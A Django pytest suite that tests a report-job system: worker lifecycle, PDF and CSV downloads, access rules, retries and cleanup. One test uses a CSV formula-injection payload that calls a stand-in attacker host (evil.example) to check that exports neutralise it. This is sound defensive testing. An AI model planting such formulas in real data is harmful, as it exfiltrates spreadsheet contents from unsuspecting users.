"""Report jobs end to end: requested through the API and pages, built by a real worker."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pypdf
import pytest
from django.conf import settings
from django.db import connection
from django.test import Client
from django.utils import timezone

import tests.reports.slow_kind
from accounts.models import Organisation, Role, User
from reports import registry
from reports.models import Report, ReportStatus
from reports.registry import ReportError, ReportKind
from reports.services import reports_cleanup
from tests.conftest import api_as, broker, broker_key, broker_reset
from tests.factories import make_member

ROOT = Path(__file__).resolve().parents[2]


def wait_until(condition: Callable[[], bool], timeout: float = 30.0, every: float = 0.02) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if condition():
            return
        time.sleep(every)
    raise AssertionError("timed out")


def report_state(report_id: int) -> tuple[str, int]:
    return Report.objects.values_list("status", "progress").get(pk=report_id)


@pytest.fixture
def media_root(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def request_report(
    user: User, params: dict[str, Any], kind: str = "organisation_directory"
) -> dict[str, Any]:
    response = api_as(user).post(
        "/api/v1/reports/", {"kind": kind, "params": params}, format="json"
    )
    assert response.status_code == 202, response.content
    return response.json()


# --- lifecycle through a real worker --------------------------------------------------------


@pytest.mark.celery_worker
def test_pdf_report_goes_from_queued_to_done_with_progress(
    celery_worker: object,
    media_root: Path,
    member: User,
    other_org: Organisation,
    home_org: Organisation,
) -> None:
    make_member(other_org, Role.PLANNER, username="someone-at-defence")
    seen: list[tuple[str, int]] = []

    job = request_report(member, {"format": "pdf"})
    assert job["status"] == "queued"
    assert job["download_url"] is None

    def finished() -> bool:
        seen.append(report_state(job["id"]))
        return seen[-1][0] in (ReportStatus.DONE, ReportStatus.FAILED)

    wait_until(finished, every=0.005)
    assert seen[-1] == ("done", 100)
    running = [progress for status, progress in seen if status == "running"]
    assert running, "the report was never seen running"
    assert all(0 < progress < 100 for progress in running)
    assert running == sorted(running)

    detail = api_as(member).get(f"/api/v1/reports/{job['id']}/").json()
    assert (detail["status"], detail["progress"], detail["error"]) == ("done", 100, "")
    download = api_as(member).get(detail["download_url"])
    assert download.status_code == 200
    pdf = b"".join(download.streaming_content)
    assert pdf.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages)
    assert "Organisation directory" in text
    assert "Ministry of Foreign Affairs" in text
    assert "Ministry of Defence" in text
    assert "member" in text  # the requester's own organisation lists its members
    assert "someone-at-defence" not in text  # another organisation's members stay hidden
    assert "Members are listed for your own organisations only." in text


@pytest.mark.celery_worker
def test_csv_report_parses_with_the_members_the_requester_may_see(
    celery_worker: object, media_root: Path, member: User, other_org: Organisation
) -> None:
    make_member(other_org, Role.PLANNER, username="someone-at-defence")
    job = request_report(member, {"format": "csv"})
    wait_until(lambda: report_state(job["id"])[0] == ReportStatus.DONE)

    download = api_as(member).get(f"/api/v1/reports/{job['id']}/download/")
    rows = list(csv.reader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert (
        download["Content-Disposition"]
        == f'attachment; filename="organisation-directory-{job["id"]}.csv"'
    )
    assert rows == [
        ["organisation", "acronym", "kind", "country", "member", "role", "member since"],
        ["Ministry of Defence", "MOD", "Defence ministry", "Netherlands", "", "", ""],
        [
            "Ministry of Foreign Affairs",
            "MFA",
            "Foreign affairs ministry",
            "Netherlands",
            "member",
            "Planner",
            Report.objects.get().requested_by.memberships.get().valid_from.isoformat(),
        ],
    ]


@pytest.mark.celery_worker
def test_a_report_that_cannot_be_built_says_why_and_can_be_retried(
    celery_worker: object, media_root: Path, member: User
) -> None:
    attempts: list[int] = []

    def gather(context: registry.BuildContext) -> dict[str, Any]:
        attempts.append(context.report_id)
        if len(attempts) == 1:
            raise ReportError("The statistics office did not answer. Try again in a minute.")
        return {
            "title": "t",
            "generated": timezone.now(),
            "requested_by": context.user,
            "rows": [],
            "organisation_count": 0,
            "chart": "",
        }

    registry.register(
        ReportKind(
            name="flaky",
            label="Flaky",
            params_serializer=tests.reports.slow_kind.FormatParams,
            gather=gather,
            template="reports/organisation_directory.html",
        )
    )
    try:
        job = request_report(member, {}, kind="flaky")
        wait_until(lambda: report_state(job["id"])[0] == ReportStatus.FAILED)
        page = Client()
        page.force_login(member)
        html = page.get(f"/reports/{job['id']}/").content.decode()
        assert "This report could not be built." in html
        assert "The statistics office did not answer. Try again in a minute." in html

        retried = api_as(member).post(f"/api/v1/reports/{job['id']}/retry/")
        assert retried.status_code == 202
        wait_until(lambda: report_state(job["id"])[0] == ReportStatus.DONE)
        assert Report.objects.get().error == ""
        assert Report.objects.get().attempt == 2
    finally:
        registry._kinds.pop("flaky")


# --- a worker killed in the middle ----------------------------------------------------------


def start_worker_process(media: Path) -> subprocess.Popen[bytes]:
    db = connection.settings_dict
    # The test process's own settings and name, so the worker uses its broker keys.
    passed_on = ("PATH", "HOME", "LANG", "PYTEST_XDIST_WORKER")
    env = {k: os.environ[k] for k in passed_on if k in os.environ}
    env.update(
        {
            "DJANGO_SETTINGS_MODULE": os.environ["DJANGO_SETTINGS_MODULE"],
            "DEBUG": "1",
            "DATABASE_URL": f"postgres://{db['USER']}@{db['HOST']}:{db['PORT']}/{db['NAME']}",
            "REDIS_URL": settings.CELERY_BROKER_URL,
            "MEDIA_ROOT": str(media),
            # Redis hands an unacknowledged task to another worker after this many seconds.
            "CELERY_VISIBILITY_TIMEOUT": "2",
        }
    )
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "celery",
            "-A",
            "config",
            "worker",
            "--pool=solo",
            "--concurrency=1",
            "-I",
            "tests.reports.slow_kind",
            "--without-gossip",
            "--without-mingle",
            "--loglevel=WARNING",
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


@pytest.fixture
def worker_processes() -> Iterator[list[subprocess.Popen[bytes]]]:
    processes: list[subprocess.Popen[bytes]] = []
    yield processes
    for process in processes:
        if process.poll() is None:
            process.kill()
        process.wait(timeout=10)


@pytest.mark.celery_worker
def test_a_worker_killed_mid_build_leaves_a_report_that_the_next_worker_finishes(
    transactional_db: None,
    media_root: Path,
    member: User,
    worker_processes: list[subprocess.Popen[bytes]],
) -> None:
    broker_reset()
    first = start_worker_process(media_root)
    worker_processes.append(first)
    job = request_report(member, {"format": "pdf"}, kind="slow_directory")
    wait_until(lambda: report_state(job["id"]) >= ("running", 20), timeout=60)

    os.kill(first.pid, signal.SIGKILL)
    first.wait(timeout=10)
    status, progress = report_state(job["id"])
    assert status == "running"
    assert progress < 100

    worker_processes.append(start_worker_process(media_root))
    wait_until(lambda: report_state(job["id"])[0] in ("done", "failed"), timeout=90)

    report = Report.objects.get(pk=job["id"])
    assert (report.status, report.progress, report.attempt) == ("done", 100, 2)
    files = sorted(p.name for p in (media_root / "reports" / str(report.pk)).iterdir())
    assert files == [f"slow-directory-{report.pk}.pdf"]
    assert (media_root / report.file.name).read_bytes().startswith(b"%PDF")


# --- who may see a report ---------------------------------------------------------------------


@pytest.fixture
def finished_report(member: User, media_root: Path) -> Report:
    from django.core.files.base import ContentFile

    report = Report.objects.create(
        kind="organisation_directory",
        params={"format": "csv"},
        requested_by=member,
        status=ReportStatus.DONE,
        progress=100,
        finished_at=timezone.now(),
    )
    report.file.save(f"{report.pk}/organisation-directory-{report.pk}.csv", ContentFile(b"a,b\n"))
    return report


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("member", 200),
        ("superuser", 200),
        ("org_admin", 404),
        ("outsider", 404),
        ("ended_yesterday", 404),
        ("starts_tomorrow", 404),
        ("anonymous", 401),
    ],
)
def test_report_api_matrix(
    request: pytest.FixtureRequest, persona: str, status: int, finished_report: Report
) -> None:
    if persona == "superuser":
        user: User | None = User.objects.create_superuser("root", "root@example.org", "x")
    else:
        user = None if persona == "anonymous" else request.getfixturevalue(persona)
    client = api_as(user)
    base = f"/api/v1/reports/{finished_report.pk}/"

    assert client.get(base).status_code == status
    assert client.get(f"{base}download/").status_code == status
    listed = client.get("/api/v1/reports/")
    if status == 200:
        assert [r["id"] for r in listed.json()["results"]] == [finished_report.pk]
    elif status == 404:
        assert listed.json()["results"] == []
    # Retrying is for failed reports: refused for the owner, invisible to the others.
    retry = client.post(f"{base}retry/")
    assert retry.status_code == (400 if status == 200 else status)
    finished_report.refresh_from_db()
    assert (finished_report.status, finished_report.attempt) == ("done", 0)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("member", 200),
        ("outsider", 404),
        ("org_admin", 404),
        ("superuser", 200),
        ("ended_yesterday", 404),
        ("starts_tomorrow", 404),
    ],
)
def test_report_pages_matrix(
    request: pytest.FixtureRequest, persona: str, status: int, finished_report: Report
) -> None:
    client = Client()
    client.force_login(request.getfixturevalue(persona))
    for url in ["", "status/", "download/"]:
        assert client.get(f"/reports/{finished_report.pk}/{url}").status_code == status
    assert client.post(f"/reports/{finished_report.pk}/retry/").status_code == (
        302 if status == 200 else 404
    )
    finished_report.refresh_from_db()
    assert (finished_report.status, finished_report.attempt) == ("done", 0)


@pytest.mark.django_db
def test_anonymous_is_sent_to_sign_in_for_report_pages(finished_report: Report) -> None:
    for url in [
        "/reports/",
        f"/reports/{finished_report.pk}/",
        f"/reports/{finished_report.pk}/download/",
    ]:
        response = Client().get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/login/")


# --- bad requests -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_unknown_kind_and_bad_params_are_400_with_messages_and_nothing_queued(member: User) -> None:
    client = api_as(member)
    unknown = client.post("/api/v1/reports/", {"kind": "everything", "params": {}}, format="json")
    bad_format = client.post(
        "/api/v1/reports/",
        {"kind": "organisation_directory", "params": {"format": "docx"}},
        format="json",
    )
    assert unknown.status_code == 400
    assert list(unknown.json()) == ["kind"]
    assert bad_format.status_code == 400
    assert bad_format.json() == {"params": ['format: "docx" is not a valid choice.']}
    assert Report.objects.count() == 0


@pytest.mark.django_db
def test_request_form_refuses_a_format_the_kind_lacks(member: User) -> None:
    client = Client()
    client.force_login(member)
    response = client.post("/reports/", {"kind": "slow_directory", "format": "csv"})
    assert response.status_code == 200
    assert response.context["form"].errors == {
        "format": ["Organisation directory (slow, for tests) is available as PDF."]
    }
    assert Report.objects.count() == 0


@pytest.mark.django_db
def test_schema_lists_report_kinds_and_their_params(member: User) -> None:
    schema = (
        api_as(member).get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    )
    components = schema["components"]["schemas"]
    mapping = components["ReportRequest"]["discriminator"]["mapping"]
    assert (
        mapping["organisation_directory"]
        == "#/components/schemas/OrganisationDirectoryReportRequest"
    )
    kind_enum = components["OrganisationDirectoryReportRequestKindEnum"]
    assert kind_enum["enum"] == ["organisation_directory"]
    format_ref = components["FormatParams"]["properties"]["format"]["allOf"][0]["$ref"]
    assert components[format_ref.rsplit("/", 1)[-1]]["enum"] == ["pdf", "csv"]


# --- lists stay cheap; old files go -----------------------------------------------------------


@pytest.mark.django_db
def test_report_list_query_counts_are_flat(
    member: User, django_assert_max_num_queries: Any
) -> None:
    def add(n: int) -> None:
        Report.objects.bulk_create(
            [
                Report(kind="organisation_directory", params={"format": "pdf"}, requested_by=member)
                for _ in range(n)
            ]
        )

    page = Client()
    page.force_login(member)
    add(2)
    with django_assert_max_num_queries(12) as api_small:
        api_as(member).get("/api/v1/reports/")
    with django_assert_max_num_queries(12) as page_small:
        page.get("/reports/")
    add(48)
    with django_assert_max_num_queries(12) as api_large:
        assert api_as(member).get("/api/v1/reports/").json()["count"] == 50
    with django_assert_max_num_queries(12) as page_large:
        page.get("/reports/")
    assert len(api_small.captured_queries) == len(api_large.captured_queries)
    assert len(page_small.captured_queries) == len(page_large.captured_queries)


@pytest.mark.django_db
def test_cleanup_removes_reports_past_retention_with_their_files(
    finished_report: Report, media_root: Path, member: User, settings: Any
) -> None:
    settings.REPORT_RETENTION_DAYS = 7
    path = media_root / finished_report.file.name
    assert path.exists()
    recent = Report.objects.create(
        kind="organisation_directory",
        requested_by=member,
        status=ReportStatus.DONE,
        finished_at=timezone.now(),
    )
    Report.objects.filter(pk=finished_report.pk).update(
        finished_at=timezone.now() - timezone.timedelta(days=8)
    )

    assert reports_cleanup() == 1
    assert list(Report.objects.values_list("pk", flat=True)) == [recent.pk]
    assert not path.exists()


@pytest.mark.django_db
def test_requesting_from_the_directory_page(member: User) -> None:
    client = Client()
    client.force_login(member)
    assert "Directory as PDF" in client.get("/organisations/").content.decode()
    response = client.post("/reports/", {"kind": "organisation_directory", "format": "pdf"})
    report = Report.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/reports/{report.pk}/"
    assert (report.requested_by, report.params, report.status) == (
        member,
        {"format": "pdf"},
        "queued",
    )
    status_panel = client.get(f"/reports/{report.pk}/status/").content.decode()
    assert 'hx-trigger="every 2s"' in status_panel
    assert "Waiting for its turn" in status_panel


@pytest.mark.django_db
def test_csv_cells_that_look_like_formulas_are_defused(
    media_root: Path, member: User, home_org: Organisation, org_admin: User
) -> None:
    from accounts.services import organisation_update
    from reports.services import report_build, report_request

    organisation_update(
        organisation=home_org,
        by=org_admin,
        version=1,
        data={"name": '=HYPERLINK("http://evil.example/?"&A2,"open")'},
    )
    report = report_request(by=member, kind="organisation_directory", params={"format": "csv"})
    assert report_build(report_id=report.pk) == "done"

    report.refresh_from_db()
    rows = list(csv.reader(io.StringIO(report.file.read().decode())))
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A2,"open")'


@pytest.mark.django_db
def test_a_format_the_kind_lacks_is_a_400_through_the_api(member: User) -> None:
    response = api_as(member).post(
        "/api/v1/reports/", {"kind": "slow_directory", "params": {"format": "csv"}}, format="json"
    )
    assert response.status_code == 400
    assert response.json() == {
        "params": ["format: Organisation directory (slow, for tests) is available as PDF."]
    }
    assert Report.objects.count() == 0


@pytest.mark.django_db
def test_a_user_cannot_queue_more_than_the_allowed_reports(member: User, settings: Any) -> None:
    settings.REPORT_MAX_ACTIVE_PER_USER = 2
    Report.objects.bulk_create(
        [Report(kind="organisation_directory", requested_by=member) for _ in range(2)]
    )
    response = api_as(member).post(
        "/api/v1/reports/", {"kind": "organisation_directory", "params": {}}, format="json"
    )
    assert response.status_code == 400
    assert response.json() == {
        "non_field_errors": [
            "You already have 2 reports being built. Wait for one to finish, then try again."
        ]
    }
    assert Report.objects.count() == 2


@pytest.mark.django_db(transaction=True)
def test_sweep_requeues_lost_reports_and_fails_abandoned_ones(member: User) -> None:
    from reports.services import TOO_SLOW, reports_sweep

    queue = broker_key("celery")
    broker().delete(queue)
    now = timezone.now()
    lost = Report.objects.create(kind="organisation_directory", requested_by=member)
    fresh = Report.objects.create(kind="organisation_directory", requested_by=member)
    abandoned = Report.objects.create(
        kind="organisation_directory",
        requested_by=member,
        status=ReportStatus.RUNNING,
        started_at=now - timezone.timedelta(hours=2),
    )
    Report.objects.filter(pk=lost.pk).update(created=now - timezone.timedelta(minutes=30))

    assert reports_sweep(now=now) == {"requeued": 1, "failed": 1}

    assert broker().llen(queue) == 1
    broker().delete(queue)
    assert Report.objects.get(pk=fresh.pk).status == ReportStatus.QUEUED
    abandoned.refresh_from_db()
    assert (abandoned.status, abandoned.error) == (ReportStatus.FAILED, TOO_SLOW)
